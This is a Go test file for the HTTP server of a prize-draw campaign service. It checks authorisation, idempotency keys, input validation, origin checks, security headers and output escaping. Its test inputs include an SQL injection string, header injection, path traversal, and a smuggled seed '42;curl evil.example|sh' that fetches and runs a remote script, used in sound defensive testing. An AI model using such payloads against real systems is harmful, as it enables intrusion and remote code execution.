package serve_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prizegen/prizegen/pkg/campaign"
	"github.com/prizegen/prizegen/pkg/draw"
	"github.com/prizegen/prizegen/pkg/remote"
	"github.com/prizegen/prizegen/pkg/store/storetest"
	"github.com/prizegen/prizegen/serve"
)

const token = "a token for tests"

// keeping has a server keep campaigns in a database.
func keeping(t testing.TB, address string) func(*serve.Config) {
	return func(cfg *serve.Config) {
		cfg.Store, cfg.AdminToken = storetest.Open(t, address), token
	}
}

// adminOf returns the client of a server's campaigns.
func adminOf(t testing.TB, s *server, token string) *remote.Admin {
	t.Helper()
	return remote.New(remote.Config{Core: parseURL(t, s.url)}).Admin(token)
}

// TestPromotionOverHTTP runs a promotion with the client of a core: the same things
// happen with the same errors as in process.
func TestPromotionOverHTTP(t *testing.T) {
	storetest.Each(t, func(t *testing.T, address string) {
		s := start(t, serve.All, keeping(t, address))
		admin, public := adminOf(t, s, token), adminOf(t, s, "")
		ctx := t.Context()

		if _, err := public.Create(ctx, campaign.Plan{Name: "summer"}); !errors.Is(err, remote.ErrForbidden) {
			t.Errorf("the public makes a campaign: %v", err)
		}
		if _, _, err := adminOf(t, s, "a guess").Campaigns(ctx, campaign.CampaignQuery{}); !errors.Is(err, remote.ErrForbidden) {
			t.Errorf("a wrong token is taken: %v", err)
		}
		c, err := admin.Create(ctx, campaign.Plan{Name: "summer", Title: "Summer", MaxPlays: 1})
		if err != nil || c.State != campaign.Draft || c.Rules != "generous" || c.TextFormat != "lower4" {
			t.Fatalf("%+v, %v", c, err)
		}
		if _, err := public.Campaign(ctx, "summer"); !errors.Is(err, campaign.ErrNotFound) {
			t.Errorf("the public sees a draft: %v", err)
		}
		plan := c.Plan()
		plan.Title = "The great summer draw"
		if c, err = admin.Edit(ctx, "summer", c.Version, plan); err != nil || c.Title != plan.Title {
			t.Fatalf("%+v, %v", c, err)
		}
		if _, err := admin.Edit(ctx, "summer", c.Version-1, plan); !errors.Is(err, campaign.ErrChanged) {
			t.Errorf("an outdated change is made: %v", err)
		}
		if c, err = admin.Open(ctx, "summer"); err != nil || len(c.Commitment) != 64 || c.Seed != "" {
			t.Fatalf("%+v, %v", c, err)
		}

		ann := &campaign.Person{FirstName: "Ann", LastName: "Lee", Email: "ann@example.org"}
		first, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: ann, Key: "one"})
		if err != nil || first.Index != 0 || first.Player != "Ann L." || first.Entrant != nil || first.Seed != "" {
			t.Fatalf("%+v, %v", first, err)
		}
		if again, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: ann, Key: "one"}); err != nil || again.ID != first.ID {
			t.Errorf("the same key gives %+v, %v", again, err)
		}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: ann, Key: "two"}); !errors.Is(err, campaign.ErrMaxPlays) {
			t.Errorf("a second play: %v", err)
		}
		bob := &campaign.Person{FirstName: "Bob", LastName: "Lee"}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: bob, Key: "one"}); !errors.Is(err, campaign.ErrKeyReused) {
			t.Errorf("the key of another: %v", err)
		}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: &campaign.Person{FirstName: "Bob"}}); !errors.Is(err, campaign.ErrInvalid) {
			t.Errorf("a play without a last name: %v", err)
		}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "winter", Person: bob}); !errors.Is(err, campaign.ErrNotFound) {
			t.Errorf("a play of nothing: %v", err)
		}
		if _, _, err := public.Draws(ctx, campaign.DrawQuery{Campaign: "summer"}); !errors.Is(err, remote.ErrForbidden) {
			t.Errorf("the public lists draws: %v", err)
		}
		draws, _, err := admin.Draws(ctx, campaign.DrawQuery{Campaign: "summer"})
		if err != nil || len(draws) != 1 || draws[0].Entrant == nil || draws[0].Entrant.Email != "ann@example.org" {
			t.Errorf("got draws %+v, error %v", draws, err)
		}
		voided, err := admin.Void(ctx, first.ID, "a test of the staff")
		if err != nil || voided.Void == nil || voided.Void.Note != "a test of the staff" {
			t.Errorf("%+v, %v", voided, err)
		}
		if d, err := public.Draw(ctx, first.ID); err != nil || d.Void == nil || d.Void.Note != "" || d.Entrant != nil {
			t.Errorf("the public sees %+v, %v", d, err)
		}
		checkEntrants(t, admin)

		if c, err = admin.Close(ctx, "summer"); err != nil || c.Seed == "" {
			t.Fatalf("%+v, %v", c, err)
		}
		var file bytes.Buffer
		if err := public.Export(ctx, "summer", &file, campaign.ExportOptions{}); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(file.String(), "example.org") || strings.Contains(file.String(), "staff") {
			t.Error("an export for the public has personal data")
		}
		report, err := campaign.Verify(ctx, draw.Local{}, &file, nil, func(f draw.Finding) { t.Errorf("%+v", f) })
		if err != nil || report.Draws != 1 || !report.SeedKnown {
			t.Errorf("%+v, %v", report, err)
		}
		if err := public.Export(ctx, "summer", &file, campaign.ExportOptions{Entrants: true}); !errors.Is(err, remote.ErrForbidden) {
			t.Errorf("the public exports personal data: %v", err)
		}
		changes, err := admin.Changes(ctx, campaign.ChangeQuery{Subject: "summer"})
		if err != nil || len(changes) != 4 || changes[0].Action != "campaign.close" || changes[0].Actor != "api" {
			t.Errorf("%+v, %v", changes, err)
		}
	})
}

func checkEntrants(t *testing.T, admin *remote.Admin) {
	t.Helper()
	ctx := t.Context()
	added, err := admin.ImportEntrants(ctx, []campaign.Person{{FirstName: "Zoë", LastName: "Émile"}, {FirstName: "小龙", LastName: "李"}, {FirstName: "🎁", LastName: "אבג"}})
	if err != nil || added != 3 {
		t.Fatalf("%d, %v", added, err)
	}
	_, err = admin.ImportEntrants(ctx, []campaign.Person{{FirstName: "Cy", LastName: "Lee"}, {FirstName: "Di"}})
	var wrong *campaign.ImportError
	if !errors.As(err, &wrong) || len(wrong.Bad) != 1 || wrong.Bad[1] == nil || !strings.Contains(wrong.Bad[1].Error(), "last_name") {
		t.Errorf("a wrong import: %+v, %v", wrong, err)
	}
	list, _, err := admin.Entrants(ctx, campaign.EntrantQuery{Search: "éM"})
	if err != nil || len(list) != 1 || list[0].FirstName != "Zoë" {
		t.Fatalf("got entrants %+v, error %v", list, err)
	}
	e, err := admin.EditEntrant(ctx, list[0].ID, campaign.Person{FirstName: "Zoe", LastName: "Émile", Email: "zoe@example.org"})
	if err != nil || e.Email != "zoe@example.org" {
		t.Errorf("%+v, %v", e, err)
	}
	if err := admin.DeleteEntrant(ctx, e.ID); err != nil {
		t.Error(err)
	}
	if _, err := admin.Entrant(ctx, e.ID); !errors.Is(err, campaign.ErrNotFound) {
		t.Errorf("an erased entrant: %v", err)
	}
}

// TestBadPlays sends plays that can't be made: nothing is stored by them.
func TestBadPlays(t *testing.T) {
	s := start(t, serve.All, keeping(t, storetest.File(t)))
	admin := adminOf(t, s, token)
	if _, err := admin.Create(t.Context(), campaign.Plan{Name: "summer", RequireEmail: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.Open(t.Context(), "summer"); err != nil {
		t.Fatal(err)
	}
	ann := `"first_name":"Ann","last_name":"Lee","email":"ann@example.org"`
	for name, test := range map[string]struct {
		body    string
		headers []string
		status  int
		want    string
	}{
		"nobody":           {`{"campaign":"summer"}`, nil, 422, "entrant: missing"},
		"an id":            {`{"campaign":"summer","entrant":{"id":1}}`, nil, 422, "entrant: missing"},
		"no email":         {`{"campaign":"summer","entrant":{"first_name":"Ann","last_name":"Lee"}}`, nil, 422, "email: missing"},
		"a long name":      {`{"campaign":"summer","entrant":{"first_name":"` + strings.Repeat("é", 101) + `","last_name":"Lee","email":"a@b.c"}}`, nil, 422, "got 101"},
		"a hidden name":    {`{"campaign":"summer","entrant":{"first_name":"A\u202enn","last_name":"Lee","email":"a@b.c"}}`, nil, 422, "U+202E"},
		"a zero byte":      {`{"campaign":"summer","entrant":{"first_name":"A\u0000","last_name":"Lee","email":"a@b.c"}}`, nil, 422, "U+0000"},
		"a header":         {`{"campaign":"summer","entrant":{"first_name":"Ann","last_name":"Lee","email":"a@b.c\r\nX: y"}}`, nil, 422, "not an email address"},
		"a seed":           {`{"campaign":"summer","seed":"42","entrant":{` + ann + `}}`, nil, 422, "can't stand beside campaign"},
		"no such campaign": {`{"campaign":"winter","entrant":{` + ann + `}}`, nil, 404, "there is no campaign"},
		"an odd campaign":  {`{"campaign":"../summer","entrant":{` + ann + `}}`, nil, 404, "there is no campaign"},
		"an empty key":     {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Idempotency-Key", `""`}, 400, "Idempotency-Key"},
		"an open key":      {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Idempotency-Key", `"abc`}, 400, "missing closing quote"},
		"a long key":       {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Idempotency-Key", strings.Repeat("k", 256)}, 400, "1 to 255"},
		"a wrong token":    {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Authorization", "Bearer x"}, 401, "the token is wrong"},
	} {
		t.Run(name, func(t *testing.T) {
			answer, text := s.do(t, "POST", "/v1/draws", test.body, test.headers...)
			var p remote.Problem
			if err := json.Unmarshal([]byte(text), &p); err != nil || answer.StatusCode != test.status || !strings.Contains(p.Detail, test.want) {
				t.Errorf("%s %s, expected %d with %q", answer.Status, text, test.status, test.want)
			}
		})
	}
	if c, err := admin.Campaign(t.Context(), "summer"); err != nil || c.Plays != 0 {
		t.Errorf("%d draws, %v", c.Plays, err)
	}
}

// TestKeysQuotedOrBare plays with the same once-only key, written both ways.
func TestKeysQuotedOrBare(t *testing.T) {
	s := start(t, serve.All, keeping(t, storetest.File(t)))
	openCampaign(t, s, "summer")
	body := `{"campaign":"summer","entrant":{"first_name":"Ann","last_name":"Lee"}}`
	first, one := s.do(t, "POST", "/v1/draws", body, "Idempotency-Key", `"abc"`)
	second, two := s.do(t, "POST", "/v1/draws", body, "Idempotency-Key", "abc")
	if first.StatusCode != http.StatusCreated || second.StatusCode != http.StatusCreated || one != two {
		t.Errorf("%s %s and %s %s", first.Status, one, second.Status, two)
	}
	where := first.Header.Get("Location")
	if answer, _ := s.do(t, "GET", where, ""); answer.StatusCode != http.StatusOK {
		t.Errorf("%s is answered %s", where, answer.Status)
	}
	guess := where[:len(where)-1] + string(rune('a'+('z'-where[len(where)-1])%2))
	if answer, _ := s.do(t, "GET", guess, ""); guess != where && answer.StatusCode != http.StatusNotFound {
		t.Errorf("the guess %s is answered %s", guess, answer.Status)
	}
}

// openCampaign opens a campaign as deployed.
func openCampaign(t testing.TB, s *server, name string) {
	t.Helper()
	admin := adminOf(t, s, token)
	if _, err := admin.Create(t.Context(), campaign.Plan{Name: name, Title: "The " + name + " draw"}); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.Open(t.Context(), name); err != nil {
		t.Fatal(err)
	}
}

// TestPlayInABrowserWithoutScripts plays with a client that keeps cookies, as a
// browser does: a double click, Back and a second tab never play twice.
func TestPlayInABrowserWithoutScripts(t *testing.T) {
	s := start(t, serve.All, keeping(t, storetest.File(t)))
	openCampaign(t, s, "summer")
	page, body := s.do(t, "GET", "/c/summer", "")
	cookie, _, _ := strings.Cut(page.Header.Get("Set-Cookie"), ";")
	_, once, _ := strings.Cut(cookie, "=")
	if page.StatusCode != http.StatusOK || len(once) != 26 || !strings.Contains(body, once) {
		t.Fatalf("%s with the cookie %q:\n%s", page.Status, cookie, body)
	}
	post := func(path string, form url.Values, headers ...string) (head, string) {
		return s.do(t, "POST", path, form.Encode(), append([]string{"Content-Type", "application/x-www-form-urlencoded", "Cookie", cookie}, headers...)...)
	}
	form := url.Values{"once": {once}, "first_name": {`<b>"Ann"</b>`}, "last_name": {"'); DROP TABLE draws; --"}}
	first, _ := post("/c/summer/play", form)
	where := first.Header.Get("Location")
	if first.StatusCode != http.StatusSeeOther || !strings.HasPrefix(where, "/d/summer-0-") {
		t.Fatalf("%s to %q", first.Status, where)
	}
	if second, _ := post("/c/summer/play", form); second.Header.Get("Location") != where {
		t.Errorf("a double click leads to %q", second.Header.Get("Location"))
	}
	form.Set("first_name", "Bob")
	if other, _ := post("/c/summer/play", form); other.Header.Get("Location") != where {
		t.Errorf("other names in a second tab lead to %q", other.Header.Get("Location"))
	}
	if _, text := s.do(t, "GET", "/c/summer", "", "Cookie", cookie); !strings.Contains(text, "You have played") || !strings.Contains(text, where) {
		t.Errorf("the page after a play is %s", text)
	}
	if result, text := s.do(t, "GET", where, ""); result.StatusCode != http.StatusOK || !strings.Contains(text, "Your chances") || strings.Contains(text, "<b>") {
		t.Errorf("the result is %s %s", result.Status, text)
	}
	again, _ := post("/c/summer/again", url.Values{})
	if key, _, _ := strings.Cut(again.Header.Get("Set-Cookie"), ";"); key == cookie || key == "" {
		t.Errorf("the next turn has the cookie %q", key)
	}
	for _, origin := range []string{"https://evil.example", "null"} {
		if answer, _ := post("/c/summer/play", form, "Origin", origin); answer.StatusCode != http.StatusForbidden {
			t.Errorf("a form of %s is answered %s", origin, answer.Status)
		}
	}
	cookie = "none=" // as a browser without cookies
	wrong, text := post("/c/summer/play", url.Values{"once": {strings.Repeat("a", 26)}, "first_name": {"Ann"}})
	if wrong.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(text, `aria-invalid="true"`) || !strings.Contains(text, `value="Ann"`) {
		t.Errorf("a form without a last name is answered %s %s", wrong.Status, text)
	}
	if c, err := adminOf(t, s, token).Campaign(t.Context(), "summer"); err != nil || c.Plays != 1 {
		t.Errorf("%d plays, %v; expected 1", c.Plays, err)
	}
}

// TestEveryPageIsGuarded looks at the headers and the source of all pages.
func TestEveryPageIsGuarded(t *testing.T) {
	s := start(t, serve.All, keeping(t, storetest.File(t)))
	openCampaign(t, s, "summer")
	openCampaign(t, s, "winter")
	d, err := adminOf(t, s, token).Play(t.Context(), campaign.Play{Campaign: "summer", Person: &campaign.Person{FirstName: "Ann", LastName: "Lee"}})
	if err != nil {
		t.Fatal(err)
	}
	for path, status := range map[string]int{
		"/": 200, "/campaigns": 200, "/try": 200, "/try/42": 200, "/c/summer": 200, "/c/summer/winners": 200, "/c/summer/odds": 200, "/c/summer/fairness": 200,
		"/c/summer/live": 200, "/d/" + d.ID: 200, "/c/nothing": 404, "/d/summer-0-aaaaaaaaaaaaaaaa": 404, "/static/nothing.css": 404,
		"/static/..%2fsite.go": 404, "/c/summer/winners?before=x": 422,
	} {
		answer, text := s.do(t, "GET", path, "")
		if answer.StatusCode != status {
			t.Errorf("%s is answered %s, expected %d", path, answer.Status, status)
		}
		for name, want := range map[string]string{"Content-Security-Policy": "default-src 'none'", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "same-origin"} {
			if !strings.Contains(answer.Header.Get(name), want) {
				t.Errorf("%s has the %s %q", path, name, answer.Header.Get(name))
			}
		}
		for _, bad := range []string{" style=", "<style", " onclick", "javascript:", `="http://`, "<script>"} {
			if strings.Contains(strings.ReplaceAll(text, "http://www.w3.org", ""), bad) {
				t.Errorf("%s has %q", path, bad)
			}
		}
	}
	if c, err := adminOf(t, s, token).Campaign(t.Context(), "summer"); err != nil || c.Plays != 1 {
		t.Errorf("looking at pages has made %d plays, %v", c.Plays-1, err)
	}
}

// TestChangesInPart of a campaign: nothing that was asked for is left out silently,
// and nobody undoes what somebody else changed meanwhile.
func TestChangesInPart(t *testing.T) {
	s := start(t, serve.All, keeping(t, storetest.File(t)))
	admin := adminOf(t, s, token)
	ends := time.Date(2099, 1, 2, 3, 4, 5, 0, time.UTC)
	if _, err := admin.Create(t.Context(), campaign.Plan{Name: "summer", ClosesAt: &ends}); err != nil {
		t.Fatal(err)
	}
	change := func(body string) int {
		answer, _ := s.do(t, http.MethodPatch, "/v1/campaigns/summer", body, "Authorization", "Bearer "+token)
		return answer.StatusCode
	}
	if status := change(`{"state":"open","closes_at":"2098-01-01T00:00:00Z"}`); status != http.StatusUnprocessableEntity {
		t.Errorf("opening and changing in one is answered %d", status)
	}
	var changing sync.WaitGroup
	for _, field := range []string{`"title":"Summer!"`, `"max_plays":7`} {
		changing.Go(func() {
			status := http.StatusConflict
			for range 50 {
				if status = change("{" + field + "}"); status != http.StatusConflict {
					break
				}
			}
			if status != http.StatusOK {
				t.Errorf("%s is answered %d", field, status)
			}
		})
	}
	changing.Wait()
	c, err := admin.Campaign(t.Context(), "summer")
	if err != nil || c.State != campaign.Draft || c.Title != "Summer!" || c.MaxPlays != 7 || !c.ClosesAt.Equal(ends) {
		t.Errorf("%+v, %v", c, err)
	}
	if status := change(`{"state":"open"}`); status != http.StatusOK {
		t.Errorf("opening is answered %d", status)
	}
}

// TestEndedCampaignsAreFound by whoever wants to check them.
func TestEndedCampaignsAreFound(t *testing.T) {
	s := start(t, serve.All, keeping(t, storetest.File(t)))
	openCampaign(t, s, "summer")
	if _, err := adminOf(t, s, token).Close(t.Context(), "summer"); err != nil {
		t.Fatal(err)
	}
	if _, text := s.do(t, http.MethodGet, "/", ""); !strings.Contains(text, `href="/campaigns"`) {
		t.Errorf("the first page does not lead to them:\n%s", text)
	}
	answer, text := s.do(t, http.MethodGet, "/campaigns", "")
	if answer.StatusCode != http.StatusOK || !strings.Contains(text, `href="/c/summer/winners"`) || !strings.Contains(text, `href="/c/summer/fairness"`) {
		t.Errorf("%s\n%s", answer.Status, text)
	}
}

// TestCommandsAreSafeToCopy: a seed that somebody else chose stays a seed.
func TestCommandsAreSafeToCopy(t *testing.T) {
	s := start(t, serve.All)
	for path, want := range map[string]string{
		"/try/42":                          "prizegen draw --seed 42<",
		"/try/42;curl%20evil.example%7Csh": "prizegen draw --seed &#39;42;curl evil.example|sh&#39;<",
		"/try/it's":                        `prizegen draw --seed &#39;it&#39;\&#39;&#39;s&#39;<`,
	} {
		if _, text := s.do(t, http.MethodGet, path, ""); !strings.Contains(text, want) {
			t.Errorf("%s has not %q:\n%s", path, want, text)
		}
	}
}
